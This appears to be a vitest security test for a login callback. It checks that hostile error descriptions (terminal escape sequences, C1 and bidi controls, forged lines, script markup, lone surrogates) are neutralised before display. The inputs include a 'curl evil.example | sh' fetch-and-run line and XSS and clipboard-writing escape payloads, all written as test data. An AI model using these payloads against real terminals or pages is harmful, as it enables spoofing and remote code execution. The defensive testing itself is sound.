/** Attack: an error description contains control sequences or HTML. */
import { describe, expect, test } from 'vitest';
import { failure } from '../support/failure.js';
import { waiting } from './support.js';

describe('a hostile error_description', () => {
  test.each([
    ['escape sequences', '\x1b[2J\x1b[1;1HYou are logged in\x1b]52;c;aGVsbG8=\x07'],
    ['C1 controls', '\x9b2J\x9d0;title\x9c'],
    ['line breaks that forge lines', 'no\r\n$ curl evil.example | sh\n'],
    ['bidi controls', 'abc\u202egnp.exe\u2066'],
    ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['a megabyte', 'x'.repeat(10_000)],
    ['lone surrogates', 'a%ED%A0%80b'],
  ])('%s', async (_, description) => {
    const login = await waiting();
    const page = await login.visit({ error: 'access_denied', error_description: description, state: login.state() });
    const calm = await waiting();
    const constant = await calm.visit({ error: 'access_denied', state: calm.state() });
    expect(page.body).toBe(constant.body);
    const { message, hint } = await failure(login.outcome);
    expect(`${message}${hint}`).not.toMatch(/[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]/);
    expect(message.length).toBeLessThan(260);
    await failure(calm.outcome);
  });

  test('a hostile error code', async () => {
    const login = await waiting();
    await login.visit({ error: '\x1b[31m\nfake', state: login.state() });
    expect((await failure(login.outcome)).message).toBe('Cannot log in: the service rejected the login (fake).');
  });
});
